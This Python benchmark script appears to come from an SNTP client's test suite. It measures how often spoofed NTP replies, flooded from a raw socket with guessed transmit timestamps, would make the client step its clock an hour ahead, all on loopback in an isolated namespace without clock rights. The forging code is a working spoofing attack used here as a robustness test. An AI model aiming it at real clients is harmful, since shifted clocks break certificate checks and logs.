#!/usr/bin/env python3
"""Off-path forgery against the clock step, measured: each run asks the loopback test server
(which holds its true reply back) to set the clock, while an attacker who knows the clock to the
millisecond floods forged replies, an hour ahead, spoofed from the server's address and port,
guessing the request's transmit time. Prints how many forgeries went out and how many runs
would have stepped the clock to a forgery. Runs in its own network namespace, without the right
to set the clock:  tests/in_netns.sh bench/forgery.py build/sntp-client tests/ntp_test_server.py
"""
import os
import socket
import struct
import subprocess
import sys
import time

CLIENT, SERVER = sys.argv[1], sys.argv[2]
RUNS, PORT, HOLD = int(os.environ.get("RUNS", "20")), 2123, 0.3
NTP_EPOCH = 2208988800


def timestamp(seconds, low_bits):
    """NTP timestamp of seconds (Unix) to the millisecond, with the given bits below 2^-10 s."""
    whole = int(seconds)
    fraction = int((seconds - whole) * 1000) * 2**32 // 1000
    return struct.pack("!II", whole + NTP_EPOCH, (fraction & ~0x3FFFFF) | low_bits)


def forged_datagram(guess_ms, low_bits):
    ahead = timestamp(time.time() + 3600, 0)
    reply = bytes([0x24, 2, 0, 0xEC]) + struct.pack("!II", 0x100, 0x100) + b"\x7f\x00\x00\x01"
    reply += ahead + timestamp(guess_ms / 1000, low_bits) + ahead + ahead
    return struct.pack("!HHHH", PORT, 1024, 8 + len(reply), 0) + reply


server = subprocess.Popen([SERVER, "127.0.0.1", str(PORT), f"delay={2 * HOLD}"],
                          stdout=subprocess.DEVNULL)
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP)
time.sleep(0.2)
sent = steps_to_forgery = steps_to_truth = 0
try:
    for run in range(RUNS):
        started_ms = int(time.time() * 1000)
        client = subprocess.Popen(
            ["setpriv", "--bounding-set=-sys_time", "--", "env", "-i", "TZ=UTC",
             f"NTP_SERVER_NAME=127.0.0.1:{PORT}", "STATUS_OF_EXECUTION=ADJUST_TIME", CLIENT],
            stdout=subprocess.PIPE, text=True)
        deadline = time.time() + HOLD * 0.9
        while time.time() < deadline:  # the send comes 3 to 5 ms after the start
            for guess_ms in range(started_ms + 2, started_ms + 8):
                raw.sendto(forged_datagram(guess_ms, int.from_bytes(os.urandom(3), "big")
                                           & 0x3FFFFF), ("127.0.0.1", 0))
                sent += 1
        report = client.communicate()[0]
        attempted = "## Error ##: Can NOT Adujust time." in report
        offset = float(report.split("Local Clock Offset = ")[1].split()[0])
        steps_to_forgery += attempted and offset > 1800
        steps_to_truth += attempted and abs(offset) < 1
finally:
    server.terminate()
print(f"{RUNS} runs, {sent} forged replies sent: {steps_to_forgery} steps to a forgery, "
      f"{steps_to_truth} to the true reply")
